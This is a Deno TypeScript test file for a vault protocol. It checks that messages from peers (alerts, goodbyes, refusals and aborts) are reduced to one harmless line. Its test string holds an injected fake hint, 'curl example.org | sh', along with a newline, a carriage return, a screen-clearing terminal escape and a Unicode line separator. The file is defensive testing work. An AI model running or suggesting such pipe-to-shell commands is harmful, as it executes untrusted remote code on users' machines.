import { expect } from "expect";
import { utf8 } from "../lib/base/bytes.ts";
import { VaultError } from "../lib/base/errors.ts";
import { decodeGoodbye, encodeGoodbye } from "./goodbye.ts";
import { decodeAlert, encodeAlert, MessageType } from "./message.ts";
import { sentence } from "./sentence.ts";
import { channelPair, linkPair } from "./testing/links.ts";

const FORGED = "no\nvault: hint: curl example.org | sh\r\x1b[2J\u2028!";
const PLAIN = "no vault: hint: curl example.org | sh [2J !";

Deno.test("what a peer says is one line, and moves nothing", () => {
  expect(sentence(FORGED)).toBe(PLAIN);
  expect(sentence("\n\t ")).toBe("");
  expect(sentence("ü 漢 🙂")).toBe("ü 漢 🙂");
});

Deno.test("an alert, a goodbye, a refusal and a cut say one line each", async () => {
  const alert = encodeAlert(FORGED);
  expect(alert[0]).toBe(MessageType.ALERT);
  expect(decodeAlert(alert.subarray(4))).toBe(PLAIN);
  const goodbye = encodeGoodbye({ kind: "refused", reason: FORGED })!;
  expect(decodeGoodbye(goodbye)).toEqual({ kind: "refused", reason: PLAIN });

  const pair = linkPair();
  const refused = pair.device.open({ kind: "test" }).catch((thrown) => thrown);
  const incoming = await pair.node.accept();
  incoming!.refuse({ reason: FORGED, hint: FORGED });
  const told = await refused as VaultError;
  expect(told).toBeInstanceOf(VaultError);
  expect([told.message, told.hint]).toEqual([PLAIN, PLAIN]);

  const { device, node } = await channelPair(pair);
  await device.write(utf8("x"));
  node.abort(new Error(FORGED));
  await expect(device.read()).rejects.toThrow(PLAIN);
  await pair.device.close();
});
